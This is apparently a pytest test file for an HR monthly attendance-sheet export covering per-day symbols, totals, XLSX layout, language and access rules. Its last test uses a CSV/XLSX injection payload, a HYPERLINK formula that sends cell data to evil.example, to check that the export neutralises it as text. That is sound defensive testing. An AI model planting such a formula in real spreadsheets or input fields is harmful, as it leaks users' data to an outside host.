"""HR's monthly sheet per department: JSON and XLSX, one row a person, one column a day, the usual symbols."""

import io
import re
from datetime import date

from openpyxl import load_workbook

from tests.attendance.support import MONTH, full_day, local, make_world, terminal_punch
from tests.factories import logged_in
from window_staff.attendance import sheet_export
from window_staff.attendance.schemas import LeaveDecisionIn, LeaveIn, MonthTotalsOut, SheetOut, SheetRowOut
from window_staff.attendance.service import leave as service_leave
from window_staff.org import service as org


async def _month_of_two(ctx):
    world = await make_world(ctx, n_staff=2)
    a, b = world.staff[0].id, world.staff[1].id
    await full_day(ctx, a, 3, site_id=world.site_id)
    await full_day(ctx, a, 4, site_id=world.site_id, am_in=(8, 50))  # late 20 minutes in the morning
    await terminal_punch(ctx, a, local(5, 8, 20), site_id=world.site_id)  # am: no sign-out; pm: absent
    leave = await service_leave.request_leave(ctx, b, LeaveIn(kind="leave", start=local(3, 8, 0), end=local(3, 18, 0)), actor="test")
    await service_leave.decide_leave(ctx, leave.id, LeaveDecisionIn(approved=True), actor="hr", decider_staff_id=None)
    trip = await service_leave.request_leave(
        ctx, b, LeaveIn(kind="official_business", start=local(4, 8, 0), end=local(4, 12, 30)), actor="test"
    )
    await service_leave.decide_leave(ctx, trip.id, LeaveDecisionIn(approved=True), actor="hr", decider_staff_id=None)
    return world


async def test_the_json_sheet_has_a_symbol_per_day(client, app_ctx):
    world = await _month_of_two(app_ctx)
    _, hr = await logged_in(client, app_ctx, "hr")
    r = await client.get(f"/api/v1/attendance/sheet?department_id={world.window.department_id}&month={MONTH}", headers=hr)
    assert r.status_code == 200, r.text
    sheet = r.json()
    assert len(sheet["days"]) == 31 and len(sheet["rows"]) == 2
    a, b = sheet["rows"]
    assert a["days"][0] == "" and a["days"][2] == "√" and a["days"][3] == "迟/√" and a["days"][4] == "缺/旷"
    assert b["days"][2] == "假" and b["days"][3] == "公/旷"
    assert a["totals"]["late_minutes"] == 20
    _, staff = await logged_in(client, app_ctx, "staff", staff_id=world.staff[0].id)
    assert (
        await client.get(f"/api/v1/attendance/sheet?department_id={world.window.department_id}&month={MONTH}", headers=staff)
    ).status_code == 403


def header_row(ws) -> int:
    return next(i for i, row in enumerate(ws.iter_rows(values_only=True), start=1) if row[0] in ("序号", "No."))


def words(ws) -> list[str]:
    return [str(v) for row in ws.iter_rows(values_only=True) for v in row if v is not None]


async def _sheet(client, ctx, world, *, lang: str = "zh"):
    _, hr = await logged_in(client, ctx, "hr")
    url = f"/api/v1/attendance/sheet.xlsx?department_id={world.window.department_id}&month={MONTH}&lang={lang}"
    r = await client.get(url, headers=hr)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    return load_workbook(io.BytesIO(r.content)).active


async def test_the_xlsx_has_one_row_per_person_and_the_right_symbols(client, app_ctx):
    world = await _month_of_two(app_ctx)
    ws = await _sheet(client, app_ctx, world)
    top = header_row(ws)
    header = [c.value for c in ws[top]]
    assert header[:4] == ["序号", "工号", "姓名", "1"] and header[3 + 30] == "31"
    assert header[34:] == [
        "出勤(次)",
        "迟到(次)",
        "迟到(分)",
        "早退(次)",
        "早退(分)",
        "旷工(半天)",
        "缺卡(次)",
        "请假(半天)",
        "公出(半天)",
        "培训(半天)",
    ]
    people = [row for row in ws.iter_rows(min_row=top + 1, values_only=True) if isinstance(row[0], int)]
    assert [p[1] for p in people] == sorted([world.staff[0].employee_no, world.staff[1].employee_no])
    a, b = people
    col = {day: 2 + day for day in range(1, 32)}  # day N is column N+3, 0-based N+2
    assert a[col[1]] in (None, "") and a[col[3]] == "√" and a[col[4]] == "迟/√" and a[col[5]] == "缺/旷"
    assert a[col[6]] == "旷"
    assert b[col[3]] == "假" and b[col[4]] == "公/旷"
    totals = dict(zip(header[34:], a[34:], strict=True))
    assert totals["出勤(次)"] == 3 and totals["迟到(次)"] == 1 and totals["迟到(分)"] == 20 and totals["缺卡(次)"] == 1
    b_totals = dict(zip(header[34:], b[34:], strict=True))
    assert b_totals["请假(半天)"] == 2 and b_totals["公出(半天)"] == 1


async def test_the_xlsx_is_a_form_with_unit_department_name_month_in_words_and_signatures(client, app_ctx):
    world = await _month_of_two(app_ctx)
    site = (await org.get_site(app_ctx, world.site_id)).name
    code, name = (await org.department_codes([world.window.department_id]))[world.window.department_id]
    ws = await _sheet(client, app_ctx, world)
    found = words(ws)
    assert ws["A1"].value == "2025年3月考勤表"
    assert {f"单位：{site}", f"部门：{name}", "月份：2025年3月"} <= set(found)
    assert [t.split("：")[0] for t in found[-6:]] == ["制表人", "审核人", "批准人", "日期", "日期", "日期"]
    assert code not in found and not [t for t in found if re.search(r"user:\d+:", t)]
    top = header_row(ws)
    assert ws.page_setup.orientation == "landscape" and int(ws.page_setup.paperSize) == 9  # A4
    assert ws.page_setup.fitToWidth == 1 and ws.print_title_rows == f"${top}:${top}" and ws.freeze_panes == f"A{top + 1}"


async def test_the_xlsx_is_in_english_when_asked(client, app_ctx):
    world = await _month_of_two(app_ctx)
    ws = await _sheet(client, app_ctx, world, lang="en")
    found = words(ws)
    assert ws["A1"].value == "Attendance sheet, March 2025"
    assert {"Month: March 2025", "Employee no.", "Late (min)"} <= set(found)
    assert any(t.startswith("Key: √ present; 迟 late") for t in found)


def test_a_formula_in_a_name_is_written_as_text_not_run() -> None:
    totals = MonthTotalsOut(
        sessions=0, present=0, late_count=0, late_minutes=0, early_count=0, early_minutes=0, absent_half_days=0,
        missing_sign_in=0, missing_sign_out=0, leave_half_days=0, leave_by_kind={},
    )  # fmt: skip
    row = SheetRowOut(staff_id=1, employee_no="+E1", name='=HYPERLINK("http://evil.example/?d="&A1,"x")', days=["√"], totals=totals)
    sheet = SheetOut(department_id=1, month="2025-03", days=[date(2025, 3, 1)], legend={"√": "出勤"}, rows=[row])
    ws = load_workbook(io.BytesIO(sheet_export.sheet_xlsx(sheet))).active
    top = header_row(ws)
    no, name = ws.cell(row=top + 1, column=2), ws.cell(row=top + 1, column=3)
    assert (no.value, no.data_type) == ("'+E1", "s")
    assert (name.value, name.data_type) == ("'" + row.name, "s")
    assert ws.cell(row=top + 1, column=4).value == "√" and ws.cell(row=top + 1, column=5).value == 0
